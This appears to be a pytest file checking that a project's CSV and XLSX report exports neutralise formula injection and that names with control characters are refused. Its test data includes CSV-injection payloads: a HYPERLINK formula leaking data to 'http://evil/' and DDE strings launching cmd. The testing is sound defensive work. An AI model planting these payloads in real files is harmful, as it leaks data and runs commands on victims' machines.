"""Formula injection: every CSV and XLSX the project writes shows hostile text as text (OWASP
CSV injection: a quote before =, +, -, @, tab, CR), money stays a number, and names refuse
control characters with a 422 naming the field."""

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from services.kit.exports import cell
from tests.claims.support_claims import CLAIMS, day, enrolled_member, hospital_stay
from tests.support import ADMIN, AUDITOR, enrol, new_member, new_plan, new_unit, plan_body

ROOT = Path(__file__).resolve().parents[1]
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "合作社,=1+2",
]


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))  # not data_only: formulas stay formulas
    return [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]


class TestEnrollmentReportExports:
    @pytest.fixture
    async def hostile_units(self, members) -> list[str]:
        await new_plan(members, "MED-2026", contribution_per_share="36.50")
        for name in HOSTILE_NAMES:
            unit = await new_unit(members, name=name, insured_headcount=4)
            member = await new_member(members, unit)
            assert (await enrol(members, member, "MED-2026")).status_code == 201
        return HOSTILE_NAMES

    async def test_the_csv_quotes_every_hostile_unit_name(self, members, hostile_units):
        response = await members.get(
            "/api/v1/reports/enrollment",
            params={"plan_code": "MED-2026", "format": "csv"},
            headers=AUDITOR,
        )
        rows = _csv_rows(response.content)
        names = sorted(row[1] for row in rows[1:-1])
        assert names == sorted("'" + name for name in hostile_units)
        assert rows[-1][5] == f"{36.5 * len(hostile_units):.2f}"  # money: exact, unprefixed

    async def test_the_xlsx_has_no_formula_and_quotes_every_hostile_name(
        self, members, hostile_units
    ):
        response = await members.get(
            "/api/v1/reports/enrollment",
            params={"plan_code": "MED-2026", "format": "xlsx"},
            headers=AUDITOR,
        )
        cells = _xlsx_cells(response.content)
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        texts = {c.value for c in cells if isinstance(c.value, str)}
        assert {"'" + name for name in hostile_units} <= texts
        assert not any(text.startswith(("=", "+", "-", "@")) for text in texts)
        money = [c.value for c in cells if c.number_format == "0.00"]
        assert money and all(isinstance(value, int | float) for value in money)


class TestContributionsReportExports:
    async def test_both_exports_quote_every_hostile_unit_name(self, members):
        await new_plan(members, "MED-2026", contribution_per_share="36.50")
        for name in HOSTILE_NAMES:
            unit = await new_unit(members, name=name)
            assert (await enrol(members, await new_member(members, unit), "MED-2026")).is_success
        params = {"plan_code": "MED-2026"}
        as_csv = await members.get(
            "/api/v1/reports/contributions", params={**params, "format": "csv"}, headers=AUDITOR
        )
        rows = _csv_rows(as_csv.content)
        assert sorted(row[1] for row in rows[1:-1]) == sorted("'" + n for n in HOSTILE_NAMES)
        assert rows[-1][5] == f"{36.5 * len(HOSTILE_NAMES):.2f}"  # owed: exact, unprefixed
        as_xlsx = await members.get(
            "/api/v1/reports/contributions", params={**params, "format": "xlsx"}, headers=AUDITOR
        )
        cells = _xlsx_cells(as_xlsx.content)
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        texts = {c.value for c in cells if isinstance(c.value, str)}
        assert {"'" + name for name in HOSTILE_NAMES} <= texts


class TestClaimsReportExports:
    async def test_a_plan_code_that_reads_as_a_formula_is_quoted(self, api):
        # a plan's code may start with "-"; the summary sheet shows the code asked for
        params = {"plan_code": "-2-1", "format": "xlsx"}
        response = await api.get("/api/v1/reports/claims", params=params, headers=AUDITOR)
        assert response.status_code == 200, response.text
        cells = _xlsx_cells(response.content)
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        assert "'-2-1" in {c.value for c in cells}


class TestOneWriter:
    @pytest.mark.parametrize(
        ("text", "written"),
        [
            ("\tcmd", "'\tcmd"),
            ("\rcmd", "'\rcmd"),
            ("a;@SUM(1)", "'a;@SUM(1)"),
            ("张三", "张三"),
            ("a-b", "a-b"),
        ],
    )
    def test_text_is_neutralised_and_only_computed_numbers_stay_numbers(self, text, written):
        from decimal import Decimal

        assert cell(text, "csv") == cell(text, "xlsx") == written
        assert cell(Decimal("-1.50"), "csv") == "-1.50"
        assert cell(Decimal("-1.50"), "xlsx") == Decimal("-1.50")

    def test_no_module_writes_a_spreadsheet_but_services_exports(self):
        writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|\.append\(\[")
        found = [
            str(path.relative_to(ROOT))
            for package in ("members_api", "claims_api", "services")
            for path in (ROOT / package).rglob("*.py")
            if writers.search(path.read_text(encoding="utf-8"))
        ]
        assert found == ["services/kit/exports.py"]


class TestNamesRefuseControlCharacters:
    @pytest.mark.parametrize("bad", ["\n", "\r", "\t", "\x00", "\x7f", "\x85", "\x9b"])
    async def test_unit_and_contact_names(self, members, bad):
        for field in ("name", "contact_name"):
            body = {"name": "第一机床厂", field: f"第一{bad}机床厂"}
            response = await members.post("/api/v1/units", json=body, headers=ADMIN)
            assert response.status_code == 422, response.text
            assert response.json()["errors"][0]["loc"] == [field]

    async def test_a_member_name_with_a_line_break_or_c1_is_422(self, members):
        unit = await new_unit(members)
        for bad in ("王\n芳", "王\x85芳"):
            body = {"national_id": "11010519491231002X", "name": bad, "unit_id": unit}
            response = await members.post("/api/v1/members", json=body, headers=ADMIN)
            assert response.status_code == 422, response.text
            assert response.json()["errors"][0]["loc"] == ["name"]

    async def test_a_plan_name_with_a_carriage_return_is_422(self, members):
        body = plan_body("MED-2026", name="互助\r计划")
        response = await members.post("/api/v1/plans", json=body, headers=ADMIN)
        assert response.status_code == 422, response.text
        assert response.json()["errors"][0]["loc"] == ["name"]

    async def test_a_hospital_with_a_tab_is_422_naming_it(self, api):
        enrolled = await enrolled_member(api)
        facts = hospital_stay(day(3, 1), hospital="第一\t医院")
        response = await api.post(CLAIMS, json=enrolled.claim(facts), headers=enrolled.member)
        assert response.status_code == 422, response.text
        assert "hospital" in response.json()["detail"]

    def test_the_openapi_schema_shows_the_constraint(self):
        from members_api.units.schemas import UnitCreate

        schema = UnitCreate.model_json_schema()
        assert schema["properties"]["name"]["pattern"] == r"^[^\x00-\x1f\x7f-\x9f]*$"
